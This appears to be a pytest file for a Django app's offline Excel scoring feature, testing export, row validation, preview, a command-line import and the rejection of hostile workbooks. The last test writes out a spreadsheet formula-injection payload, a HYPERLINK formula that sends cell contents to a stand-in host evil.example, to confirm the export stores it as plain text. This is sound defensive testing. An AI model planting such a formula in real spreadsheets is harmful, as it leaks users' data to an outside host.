"""Offline scoring: export to Excel, score there, import back with validation and preview."""

import io
from decimal import Decimal
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from openita.conftest import World, client_for
from openita.oit import offline, services
from openita.oit.models import Disclosure, Status
from openita.oit.tests.factories import Workspace, make_workspace
from openita.oit.tests.test_workflow import APPEAL_TIME, SCORING_TIME
from openita_testing.replayed_rows import RowReplay
from openita_testing.workbooks import hostile_workbooks

_spaces = RowReplay()  # made once per process, put back for each test


@pytest.fixture
def space(world: World) -> Workspace:
    return _spaces.made(lambda: _locked_for_scoring(world))


def _locked_for_scoring(world: World) -> Workspace:
    with time_machine.travel(SCORING_TIME, tick=False):
        space = make_workspace(world.station)
        services.lock_assessment(space.assessment, world.user("assessor"))
    return space


def workbook(rows: list[list[object]], header: list[str] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header or ["unit_code", "item_code", "score", "observation", "decision"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_an_exported_sheet_scored_offline_imports_back(world: World, space: Workspace) -> None:
    exported = offline.export_workbook(
        Disclosure.objects.filter(assessment=space.assessment).with_unit()
    )
    book = openpyxl.load_workbook(io.BytesIO(exported))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    score_column = header.index("score") + 1
    observation_column = header.index("observation") + 1
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row=row, column=score_column, value=100)
        sheet.cell(row=row, column=observation_column, value="ครบ")
    sheet.cell(row=4, column=score_column, value="๗๕")  # O3 is pro rata; Thai digits are read
    buffer = io.BytesIO()
    book.save(buffer)
    rows = offline.import_scores(buffer.getvalue(), world.user("assessor"), year=2568)
    assert len(rows) == 5
    assert space.item("O3").score == Decimal("75.00")
    assert space.item("O1").status == Status.SCORED
    assert space.item("O1").observation == "ครบ"


def test_rows_are_checked_before_anything_is_saved(world: World, space: Workspace) -> None:
    content = workbook(
        [
            ["tt-st1", "O1", 100, "ok", ""],
            ["tt-st1", "O2", 50, "pass/fail takes 0 or 100", ""],
            ["tt-st1", "O99", 100, "no such item", ""],
            ["tt-st1", "O3", "many", "", ""],
            ["tt-st2", "O1", 100, "another unit without an OIT", ""],
            ["tt-st1", "O1", 0, "twice", ""],
            ["tt-st1", "O4", None, "left blank", ""],
        ]
    )
    rows = offline.validate_rows(offline.read_workbook(content), world.user("assessor"), year=2568)
    errors = {row.line: row.error for row in rows if row.error}
    assert set(errors) == {3, 4, 5, 6, 7}
    assert [row.action for row in rows if row.line in (2, 8)] == ["score", ""]
    with pytest.raises(ValidationError):
        offline.import_scores(content, world.user("assessor"), year=2568)
    assert space.item("O1").status == Status.LOCKED


def test_only_the_assessor_of_the_unit_imports(world: World, space: Workspace) -> None:
    content = workbook([["tt-st1", "O1", 100, "", ""]])
    rows = offline.validate_rows(
        offline.read_workbook(content), world.user("unit_admin"), year=2568
    )
    assert rows[0].error


def test_a_file_that_is_not_a_workbook_is_refused(world: World) -> None:
    with pytest.raises(ValidationError):
        offline.read_workbook(b"%PDF-1.4")
    with pytest.raises(ValidationError):
        offline.read_workbook(workbook([], header=["code", "points"]))


def test_appealed_items_need_a_decision(world: World, space: Workspace) -> None:
    with time_machine.travel(SCORING_TIME, tick=False) as clock:
        assessor = world.user("assessor")
        for disclosure in Disclosure.objects.filter(assessment=space.assessment):
            services.score(disclosure, assessor, score=Decimal(0))
        services.release_scores(space.assessment, assessor)
        clock.move_to(APPEAL_TIME)
        services.file_appeal(space.item("O1"), world.user("unit_admin"), explanation="มีแล้ว")
        missing = workbook([["tt-st1", "O1", 100, "", ""]])
        with pytest.raises(ValidationError):
            offline.import_scores(missing, assessor, year=2568)
        offline.import_scores(workbook([["tt-st1", "O1", 100, "", "รับฟังได้"]]), assessor, year=2568)
        disclosure = space.item("O1")
        assert (disclosure.status, disclosure.appeal.decision) == (Status.RESCORED, "รับฟังได้")


def test_the_screen_previews_then_imports_on_confirmation(world: World, space: Workspace) -> None:
    client = client_for(world, "assessor")
    session = client.session
    session["openita_fiscal_year"] = 2568
    session.save()
    url = reverse("oit:import_scores")
    content = workbook([["tt-st1", "O1", 100, "ดี", ""], ["tt-st1", "O2", 0, "ขาด", ""]])
    preview = client.post(url, {"file": SimpleUploadedFile("scores.xlsx", content)})
    assert preview.status_code == 200 and preview.context["to_import"] == 2
    assert space.item("O1").status == Status.LOCKED  # nothing saved by the preview
    done = client.post(url, {"confirm": "1"})
    assert done.status_code == 302
    assert space.item("O1").score == Decimal("100.00")
    assert space.item("O2").observation == "ขาด"


def test_the_command_imports_for_one_unit(world: World, space: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "scores.xlsx"
    path.write_bytes(workbook([["", "O1", 100, "ผ่าน", ""], ["", "O4", 0, "ไม่พบ", ""]]))
    output = StringIO()
    call_command(
        "oit",
        "import-scores",
        "--unit",
        "tt-st1",
        "--year",
        "2568",
        str(path),
        "--dry-run",
        stdout=output,
    )
    assert "2 scores would be imported" in output.getvalue()
    assert space.item("O1").status == Status.LOCKED
    call_command(
        "oit", "import-scores", "--unit", "tt-st1", "--year", "2568", str(path), stdout=StringIO()
    )
    assert space.item("O1").score == Decimal("100.00") and space.item("O4").score == Decimal(0)
    path.write_bytes(workbook([["", "O2", 55, "", ""]]))
    with pytest.raises(CommandError):
        call_command(
            "oit",
            "import-scores",
            "--unit",
            "tt-st1",
            "--year",
            "2568",
            str(path),
            stdout=StringIO(),
            stderr=StringIO(),
        )


@pytest.mark.parametrize("name", sorted(hostile_workbooks()))
def test_a_hostile_workbook_gives_a_message_on_the_import_screen(
    world: World, space: Workspace, name: str
) -> None:
    content = hostile_workbooks()[name]
    with pytest.raises(ValidationError):
        offline.read_workbook(content)
    client = client_for(world, "assessor")
    session = client.session
    session["openita_fiscal_year"] = 2568
    session.save()
    response = client.post(
        reverse("oit:import_scores"), {"file": SimpleUploadedFile("scores.xlsx", content)}
    )
    assert response.status_code in (200, 302)


def test_a_formula_in_an_appeal_is_plain_text_in_the_assessors_export(
    world: World, space: Workspace
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"ดูหลักฐาน")'
    with time_machine.travel(SCORING_TIME, tick=False) as clock:
        assessor = world.user("assessor")
        for disclosure in Disclosure.objects.filter(assessment=space.assessment):
            services.score(disclosure, assessor, score=Decimal(0), observation="-ขาดหลักฐาน")
        services.release_scores(space.assessment, assessor)
        clock.move_to(APPEAL_TIME)
        services.file_appeal(space.item("O1"), world.user("unit_admin"), explanation=formula)
        client = client_for(world, "assessor")
        session = client.session
        session["openita_fiscal_year"] = 2568
        session.save()
        response = client.get(reverse("oit:export_scores"))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas kept as written
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    cells = [
        row[header.index(column)]
        for row in sheet.iter_rows(min_row=2)
        for column in ("appeal", "observation")
    ]
    written = {cell.value: cell for cell in cells if cell.value}
    assert formula in written and "-ขาดหลักฐาน" in written
    for cell in written.values():
        assert cell.data_type == "s"  # text, not a formula
    assert written[formula].quotePrefix
